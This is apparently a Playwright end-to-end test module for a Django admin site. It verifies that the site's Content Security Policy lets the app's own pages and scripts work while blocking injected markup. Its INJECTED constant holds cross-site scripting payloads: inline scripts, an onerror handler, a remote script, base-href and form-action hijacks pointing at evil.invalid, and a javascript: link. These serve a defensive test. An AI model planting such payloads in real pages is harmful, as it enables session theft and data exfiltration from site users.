"""The content policy in a real browser: our own pages work under it, and what was put into one does not run."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, sync_playwright
from pytest_django import Settings
from pytest_django.live_server_helper import LiveServer

from tests import factories, plant
from tests.e2e.test_browser import CHROMIUM, FLAGS, pytestmark

__all__ = ["pytestmark"]
WATCHED = """document.addEventListener("securitypolicyviolation", (e) => {
  (window.violations ??= []).push([e.violatedDirective, e.blockedURI, e.sourceFile, e.lineNumber, e.sample].join(" "));
});"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    # As in test_browser: Playwright keeps an event loop in this thread.
    with pytest.MonkeyPatch.context() as patch:
        patch.setitem(os.environ, "DJANGO_ALLOW_ASYNC_UNSAFE", "1")
        with sync_playwright() as playwright:
            chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
            yield chromium
            chromium.close()


@pytest.fixture
def rows(transactional_db: None) -> plant.Rows:
    made = plant.rows(factories.site())
    plant.readings(made.sensor, [20.0, 21.0, 9.93, 22.0])
    return made


@pytest.fixture
def page(browser: Browser, live_server: LiveServer, rows: plant.Rows, settings: Settings) -> Iterator[Page]:
    """A page of a superuser who has logged in; each violation of the policy is kept."""
    settings.LOGIN_RATE = "1000/m"  # each test logs in
    factories.user(is_superuser=True, is_staff=True, username="root")
    opened = browser.new_page(base_url=live_server.url, viewport={"width": 1400, "height": 900})
    opened.add_init_script(WATCHED)
    opened.goto("/admin/")
    opened.fill("[name=username]", "root")
    opened.fill("[name=password]", factories.PASSWORD)
    opened.click("[type=submit]")
    opened.wait_for_url("**/admin/")
    yield opened
    opened.close()


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("() => window.violations ?? []")
    return found


def test_the_main_pages_break_no_rule_of_the_policy(page: Page, rows: plant.Rows) -> None:
    pages = [
        "/admin/", "/admin/maintenance/alarm/", f"/admin/maintenance/alarm/{rows.alarm.pk}/change/",
        f"/admin/sensors/sensor/{rows.sensor.pk}/change/", "/admin/sensors/sensor/add/", "/admin/maintenance/plan/add/",
        f"/admin/sensors/equipment/{rows.machine.pk}/change/", f"/admin/sensors/site/{rows.machine.site_id}/change/",
        "/admin/sensors/event/", "/admin/sensors/auditentry/", "/admin/auth/user/", "/admin/auth/user/add/",
        "/admin/auth/group/add/", "/admin/maintenance-figures/", "/admin/alarm-performance/", "/admin/order-board/",
        "/admin/order-calendar/", "/admin/import-export/", "/admin/machine-health/", "/problems/invalid",
        "/act/acknowledge/x",
    ]  # fmt: skip
    found = {}
    for address in pages:
        page.goto(address)
        page.wait_for_load_state("networkidle")
        found[address] = violations(page)
    assert {address: what for address, what in found.items() if what} == {}


def test_scripts_of_the_pages_work(page: Page, rows: plant.Rows) -> None:
    page.goto("/admin/auth/user/")
    page.locator("#result_list input.action-select").first.check()
    bar = page.locator("#changelist-actions")
    bar.locator("select[name=action]").select_option("delete_selected")
    bar.locator("button[type=submit]").wait_for(state="visible")
    page.goto("/admin/sensors/sensor/add/")
    page.locator(".select2-selection").first.click()
    page.locator(".select2-results__option", has_text=rows.machine.tag).first.wait_for()
    assert violations(page) == []


def test_the_description_of_the_api_is_drawn(page: Page) -> None:
    page.goto("/api/v1/docs/")
    page.locator(".opblock").first.wait_for(timeout=60_000)
    page.locator(".opblock-summary").first.click()
    page.locator(".opblock-body").first.wait_for()
    assert violations(page) == []


# Alpine would run attributes of its own: what keeps them out of a page is that every template escapes.
INJECTED = """<b>Looks harmless</b>
<script>window.hacked = 'script'</script>
<img src="x" onerror="window.hacked = 'handler'">
<script src="https://evil.invalid/x.js"></script>
<iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
<base href="https://evil.invalid/">
<form action="https://evil.invalid/" id="stolen"><input name="a" value="b"></form>
<a id="link" href="javascript:window.hacked = 'link'">x</a>
"""


def test_markup_that_got_into_a_page_does_not_run(page: Page, rows: plant.Rows) -> None:
    """As if a template had forgotten to escape: the answer keeps its headers, and has this in its body."""
    asked: list[str] = []

    def with_markup(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</body>", f"{INJECTED}</body>"))

    page.on("requestfinished", lambda request: asked.append(request.url))
    address = f"/admin/maintenance/alarm/{rows.alarm.pk}/change/"
    page.route(f"**{address}", with_markup)
    page.goto(address)
    page.locator("b", has_text="Looks harmless").wait_for()
    page.evaluate("() => document.getElementById('link').click()")
    page.evaluate("() => document.getElementById('stolen').submit()")
    page.wait_for_function("() => (window.violations ?? []).length >= 5")
    assert page.evaluate("() => window.hacked") is None
    assert [url for url in asked if "evil.invalid" in url] == []
    told = " ".join(violations(page))
    for directive in ("script-src-elem inline", "script-src-attr inline", "base-uri", "form-action"):
        assert directive in told


def test_the_page_of_that_test_would_run_it_without_the_policy(browser: Browser, tmp_path: Path) -> None:
    """So that what does not run above does not run because of the policy."""
    bare = tmp_path / "bare.html"
    bare.write_text(f"<body>{INJECTED}</body>", encoding="utf-8")
    opened = browser.new_page()
    opened.goto(bare.as_uri())
    opened.wait_for_function("() => window.hacked !== undefined")
    opened.close()
